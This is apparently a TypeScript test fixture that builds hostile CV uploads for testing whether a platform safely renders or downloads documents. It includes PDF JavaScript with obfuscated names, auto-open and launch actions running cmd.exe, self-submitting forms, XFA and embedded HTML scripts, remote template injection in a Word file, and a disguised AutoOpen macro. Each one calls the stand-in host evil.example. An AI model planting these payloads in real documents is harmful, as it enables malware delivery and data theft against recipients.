import { zip } from '#platform/seed/cv/zip.ts';
import { packedPdf, pdfStream, plainPdf } from './hostile-pdf.ts';

/** The host that all of them try to reach. It does not exist; a request is a failure even unanswered. */
export const EVIL = 'https://evil.example';

type HostileDocument = {
  name: string;
  filename: string;
  bytes: Buffer;
  /** Whether it is rendered: the others can only be downloaded. */
  drawn: boolean;
};

/** Each line has a visible effect: a dialog, a window, a request, a property of the page. */
const SCRIPT = [
  "app.alert\\('pwned'\\)",
  `app.launchURL\\('${EVIL}/launch', true\\)`,
  `this.submitForm\\('${EVIL}/submit'\\)`,
  'globalThis.pwned = true',
  "alert\\('pwned'\\)",
].join('; ');
const WHOLE_PAGE = '/Rect [0 0 595 842] /Border [0 0 0]';

const pdf = (name: string, bytes: Buffer): HostileDocument => ({
  name,
  filename: 'cv.pdf',
  bytes,
  drawn: true,
});
const word = (name: string, parts: Record<string, string>): HostileDocument => ({
  name,
  filename: 'cv.docx',
  bytes: zip({ ...WORD, ...parts }),
  drawn: false,
});

const HEAD = '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>';
const PACKAGE = 'http://schemas.openxmlformats.org/package/2006';
const OFFICE = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships';
const WORD_TYPE = 'application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml';

const types = (more = '') =>
  `${HEAD}<Types xmlns="${PACKAGE}/content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Default Extension="xml" ContentType="application/xml"/><Override PartName="/word/document.xml" ContentType="${WORD_TYPE}"/>${more}</Types>`;
const relations = (type: string, target: string, more = '') =>
  `${HEAD}<Relationships xmlns="${PACKAGE}/relationships"><Relationship Id="rId1" Type="${type}" Target="${target}" ${more}/></Relationships>`;

const WORD = {
  '[Content_Types].xml': types(),
  '_rels/.rels': relations(`${OFFICE}/officeDocument`, 'word/document.xml'),
  'word/document.xml': `${HEAD}<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body><w:p><w:r><w:t>Curriculum vitae</w:t></w:r></w:p></w:body></w:document>`,
};

export const HOSTILE_DOCUMENTS: readonly HostileDocument[] = [
  pdf(
    'a script under a name in hexadecimal',
    plainPdf({ catalogue: `/OpenAction << /S /J#61v#61Script /J#53 (${SCRIPT}) >>` }),
  ),
  pdf(
    'a script inside a compressed object',
    packedPdf({
      catalogue: '/OpenAction 6 0 R /Names << /JavaScript << /Names [(a) 6 0 R] >> >>',
      page: '/AA << /O 6 0 R >>',
      objects: [`<< /S /JavaScript /JS (${SCRIPT}) >>`],
    }),
  ),
  pdf(
    'an address that opens by itself',
    plainPdf({ catalogue: `/OpenAction << /S /URI /URI (${EVIL}/open) >>` }),
  ),
  pdf(
    'a program that is launched',
    plainPdf({
      catalogue: `/OpenAction << /S /L#61unch /F << /FS /URL /F (${EVIL}/run.exe) >> /NewWindow true /Win << /F (cmd.exe) /P (/c calc) >> >>`,
    }),
  ),
  pdf(
    'a form that sends itself',
    plainPdf({
      catalogue: `/AcroForm << /Fields [6 0 R] /NeedAppearances true >> /OpenAction << /S /SubmitForm /F << /FS /URL /F (${EVIL}/form) >> >>`,
      page: '/Annots [6 0 R]',
      objects: [
        `<< /Type /Annot /Subtype /Widget /FT /Btn /Ff 65536 /T (go) ${WHOLE_PAGE} /P 3 0 R /A << /S /JavaScript /JS (${SCRIPT}) >> /AA << /E << /S /JavaScript /JS (${SCRIPT}) >> >> >>`,
      ],
    }),
  ),
  pdf(
    'links over the whole page',
    plainPdf({
      page: '/Annots [6 0 R 7 0 R]',
      objects: [
        `<< /Type /Annot /Subtype /Link ${WHOLE_PAGE} /A << /S /URI /URI (${EVIL}/click) /Next << /S /JavaScript /JS (${SCRIPT}) >> >> >>`,
        `<< /Type /Annot /Subtype /Link ${WHOLE_PAGE} /A << /S /URI /URI (javascript:globalThis.pwned=1) >> >>`,
      ],
    }),
  ),
  pdf(
    'a form of elements with scripts, and a page of HTML attached',
    plainPdf({
      catalogue:
        '/AcroForm << /Fields [] /XFA 6 0 R >> /Names << /EmbeddedFiles << /Names [(a.html) 7 0 R] >> >> /OpenAction << /S /GoToE /T << /R /C /N (a.html) >> /NewWindow true >>',
      objects: [
        pdfStream(
          '',
          `<xdp:xdp xmlns:xdp="http://ns.adobe.com/xdp/"><template xmlns="http://www.xfa.org/schema/xfa-template/3.0/"><subform name="f"><pageSet><pageArea><contentArea h="200mm" w="200mm"/><medium long="297mm" short="210mm"/></pageArea></pageSet><event activity="ready"><script contentType="application/x-javascript">globalThis.pwned = true; xfa.host.gotoURL("${EVIL}/xfa");</script></event><draw><value><exData contentType="text/html"><body xmlns="http://www.w3.org/1999/xhtml"><a href="${EVIL}/exdata"><img src="${EVIL}/exdata.png"/></a></body></exData></value></draw></subform></template></xdp:xdp>`,
        ),
        '<< /Type /Filespec /F (a.html) /EF << /F 8 0 R >> >>',
        pdfStream('/Type /EmbeddedFile /Subtype /text#2Fhtml', '<script>top.pwned = true</script>'),
      ],
    }),
  ),
  pdf(
    'a picture and a next part that lie elsewhere',
    plainPdf({
      catalogue: `/OpenAction << /S /GoToR /F << /FS /URL /F (${EVIL}/next.pdf) >> /D [0 /Fit] >>`,
      resources: '/XObject << /Im1 6 0 R >>',
      content: 'q 200 0 0 200 60 400 cm /Im1 Do Q',
      objects: [
        `<< /Type /XObject /Subtype /Image /Width 1 /Height 1 /ColorSpace /DeviceGray /BitsPerComponent 8 /F << /FS /URL /F (${EVIL}/pixel.png) >> /FFilter /DCTDecode /Length 0 >>\nstream\n\nendstream`,
      ],
    }),
  ),
  {
    name: 'a page of HTML that begins like a PDF',
    filename: 'cv.pdf',
    bytes: Buffer.from(
      `%PDF-1.7\n<html><script>globalThis.pwned = true; location = '${EVIL}/html'</script><img src="${EVIL}/html.png">`,
    ),
    drawn: false,
  },
  word('a document with a template from elsewhere', {
    'word/_rels/settings.xml.rels': relations(
      `${OFFICE}/attachedTemplate`,
      `${EVIL}/template.dotm`,
      'TargetMode="External"',
    ),
    'word/settings.xml': `${HEAD}<w:settings xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main" xmlns:r="${OFFICE}"><w:attachedTemplate r:id="rId1"/></w:settings>`,
  }),
  word('a document with macros under another name', {
    '[Content_Types].xml': types(
      '<Override PartName="/word/photo.bin" ContentType="application/vnd.ms-office.vbaProject"/>',
    ),
    'word/_rels/document.xml.rels': relations(
      'http://schemas.microsoft.com/office/2006/relationships/vbaProject',
      'photo.bin',
    ),
    'word/photo.bin': `\u00d0\u00cf\u0011\u00e0Sub AutoOpen() Shell "cmd.exe /c start ${EVIL}" End Sub`,
  }),
];
